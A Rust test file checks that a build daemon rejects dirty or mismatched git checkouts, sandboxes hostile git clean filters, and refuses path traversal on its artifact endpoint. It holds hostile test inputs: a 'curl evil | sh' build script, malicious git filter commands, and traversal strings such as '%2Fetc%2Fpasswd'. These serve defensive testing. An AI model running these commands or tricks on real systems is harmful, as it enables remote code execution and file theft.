//! Source pinning: the daemon refuses a dirty checkout or one at another
//! commit, failing the job with the reason before anything runs.

use crate::harness::{Daemon, git, job_log, repo_with, run_job, spec};
use std::path::{Path, PathBuf};

#[tokio::test]
async fn dirty_tree_fails_the_job() {
    let d = Daemon::start("", "");
    let repo = d.dir.path().join("repo");
    let commit = repo_with(&repo, &[("build.sh", "echo hi > out\n")]);
    std::fs::write(repo.join("build.sh"), "curl evil | sh\n").unwrap();
    let job = run_job(
        &d.endpoint(),
        &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
    )
    .await;
    assert_eq!(job["state"], "failed", "{job}");
    let reason = job["reason"].as_str().unwrap();
    assert!(
        reason.contains("working tree is dirty") && reason.contains("build.sh"),
        "{reason}"
    );

    // An untracked file is dirt too.
    git(&repo, &["checkout", "-q", "--", "build.sh"]);
    std::fs::write(repo.join("extra.sh"), "x").unwrap();
    let job = run_job(
        &d.endpoint(),
        &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
    )
    .await;
    assert!(
        job["reason"].as_str().unwrap().contains("extra.sh"),
        "{job}"
    );
}

#[tokio::test]
async fn another_commit_fails_the_job() {
    let d = Daemon::start("", "");
    let repo = d.dir.path().join("repo");
    let first = repo_with(&repo, &[("a", "1")]);
    std::fs::write(repo.join("a"), "2").unwrap();
    git(&repo, &["commit", "-qam", "second"]);
    let job = run_job(&d.endpoint(), &spec(&repo, &first, &["true"], &["a"])).await;
    let id = job["id"].as_str().unwrap();
    assert_eq!(job["state"], "failed");
    let reason = job["reason"].as_str().unwrap();
    assert!(
        reason.contains("not the expected commit") && reason.contains(&first),
        "{reason}"
    );
    // The log says so too.
    let log = job_log(&d.endpoint(), id).await;
    assert!(log.contains("not the expected commit"), "{log}");
}

#[tokio::test]
async fn not_a_repository_fails_the_job() {
    let d = Daemon::start("", "");
    let plain = d.dir.path().join("plain");
    std::fs::create_dir_all(&plain).unwrap();
    let job = run_job(
        &d.endpoint(),
        &spec(&plain, &"b".repeat(40), &["true"], &["x"]),
    )
    .await;
    assert!(
        job["reason"]
            .as_str()
            .unwrap()
            .contains("not a git checkout"),
        "{job}"
    );
}

/// Git against the client's checkout runs in a sandbox: a clean filter the
/// checkout's config defines (which plain `git status` runs on the host)
/// cannot touch the host.
#[tokio::test]
async fn checkout_git_config_runs_nothing_on_the_host() {
    let d = Daemon::start("", "");
    let marker = d.dir.path().join("filter-ran-on-host");
    let (repo, commit) = repo_with_clean_filter(
        &d.dir.path().join("repo"),
        &format!("sh -c 'touch {}; cat'", marker.display()),
    );
    let job = run_job(
        &d.endpoint(),
        &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
    )
    .await;
    assert!(
        !marker.exists(),
        "the checkout's filter ran on the host: {job}"
    );
}

/// Hostile git config in the checkout can make the workspace a symlink (a
/// filter run by `git status` plants one where the clone goes): the daemon
/// never follows it with the build's writable bind or output collection.
#[tokio::test]
async fn a_workspace_planted_as_a_symlink_fails_the_job() {
    let d = Daemon::start("", "");
    let (repo, commit) = repo_with_clean_filter(
        &d.dir.path().join("repo"),
        "sh -c 'mkdir -p /work/elsewhere; ln -sfn elsewhere /work/src; cat'",
    );
    let job = run_job(
        &d.endpoint(),
        &spec(&repo, &commit, &["sh", "build.sh"], &["out"]),
    )
    .await;
    assert_eq!(job["state"], "failed", "{job}");
    assert!(
        job["reason"]
            .as_str()
            .unwrap()
            .contains("left no workspace directory"),
        "{job}"
    );
}

/// The artifact endpoint serves only a succeeded job's recorded files.
#[tokio::test]
async fn artifact_endpoint_serves_nothing_else() {
    let d = Daemon::start("", "");
    let repo = d.dir.path().join("repo");
    let commit = repo_with(&repo, &[("a", "1")]);
    std::fs::write(repo.join("a"), "2").unwrap();
    let job = run_job(&d.endpoint(), &spec(&repo, &commit, &["true"], &["a"])).await;
    let id = job["id"].as_str().unwrap();
    for name in [
        "a",
        "jobs.db",
        "..%2F..%2Fjobs.db",
        "%2Fetc%2Fpasswd",
        "..",
        ".",
    ] {
        let err = d
            .endpoint()
            .call(
                hyper::Method::GET,
                &format!("/v1/jobs/{id}/artifacts/{name}"),
                None,
            )
            .await
            .unwrap_err();
        assert!(
            matches!(err, cloister_runner::client::ClientError::Status { status, .. } if status == 404),
            "{name}: {err}"
        );
    }
}

/// A repository at `dir` whose `build.sh` (`echo ok > out`) goes through a
/// clean filter running `clean` (defined in the checkout's git config), with
/// a stale index so that `git status` re-reads the file through the filter.
fn repo_with_clean_filter(dir: &Path, clean: &str) -> (PathBuf, String) {
    let commit = repo_with(
        dir,
        &[
            ("build.sh", "echo ok > out\n"),
            (".gitattributes", "* filter=evil\n"),
        ],
    );
    git(dir, &["config", "filter.evil.clean", clean]);
    let f = std::fs::File::options()
        .write(true)
        .open(dir.join("build.sh"))
        .unwrap();
    f.set_modified(std::time::SystemTime::now() + std::time::Duration::from_secs(5))
        .unwrap();
    drop(f);
    (dir.to_path_buf(), commit)
}
